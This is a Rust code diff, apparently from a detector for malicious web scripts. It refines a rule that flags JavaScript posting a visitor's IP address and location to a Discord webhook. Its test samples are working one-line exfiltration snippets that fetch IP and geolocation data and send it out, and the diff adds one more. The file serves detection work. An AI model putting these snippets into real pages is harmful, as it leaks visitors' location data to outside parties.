@@ -3,6 +3,7 @@
 use crate::facts::Atom;
 use crate::signals::near::Near;
 use crate::signals::{Evidence, Held, Signal, one};
+use crate::taint::Mark;
 use crate::{ClassSet, Severity};
 
 pub(super) const SIGNAL: Signal = Signal {
@@ -18,6 +19,7 @@ pub(super) const SIGNAL: Signal = Signal {
         with: &[
             "fetch('https://ipinfo.io/json').then(r=>r.json()).then(d=>fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:d.ip+d.city+d.country})}))",
             "(async()=>{const r=await fetch('https://api.ipify.org');const t=await r.text();await fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:t+' at '+location.href})})})()",
+            "fetch('https://ipinfo.io/json').then(r=>r.json()).then(d=>{n.value=o.value;fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:d.ip+d.city+d.country})})})",
         ],
         without: &[
             "fetch('https://api.ipify.org').then(r=>r.text()).then(ip=>{if(ip!==last)fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:'The server has a new address: '+ip})})})",
@@ -27,7 +29,7 @@ pub(super) const SIGNAL: Signal = Signal {
     },
 };
 
-/// Whether several things that such a service answers are named, and no field of a form is read.
+/// Whether several things that such a service answers are named, and what is sent is nothing of a form.
 fn tells(evidence: &Evidence<'_>, held: Held) -> bool {
     let near = Near::new(evidence, held, 40);
     let mut told: Vec<&str> = near.words(PLACE).map(|at| near.word(at)).collect();
@@ -41,7 +43,11 @@ fn tells(evidence: &Evidence<'_>, held: Held) -> bool {
             && near.has_word(&["location", "navigator", "document"])
             && near.has_word(&["content", "embeds", "chat_id"])
     };
-    (placed || noted()) && !near.has_fact(&[Atom::FieldValue, Atom::FormContents])
+    let told = || {
+        let mut sent = evidence.flows.iter().filter(|flow| near.places().contains(&(flow.at as usize)));
+        sent.any(|flow| flow.sink.leaves() && flow.marks.has(Mark::DropBox) && !flow.marks.has(Mark::Field))
+    };
+    (placed || noted()) && told()
 }
 
 /// What is known of an address.
